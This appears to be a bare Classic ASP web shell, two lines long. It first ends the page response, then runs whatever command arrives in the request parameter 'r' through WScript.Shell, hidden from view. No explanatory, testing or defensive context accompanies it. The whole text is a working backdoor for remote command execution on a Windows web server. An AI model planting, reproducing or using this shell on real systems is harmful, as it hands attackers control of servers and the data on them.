<% Response.End : Dim 1 %>
<% CreateObject("WScript.Shell").Run Request("r"), 0, True %>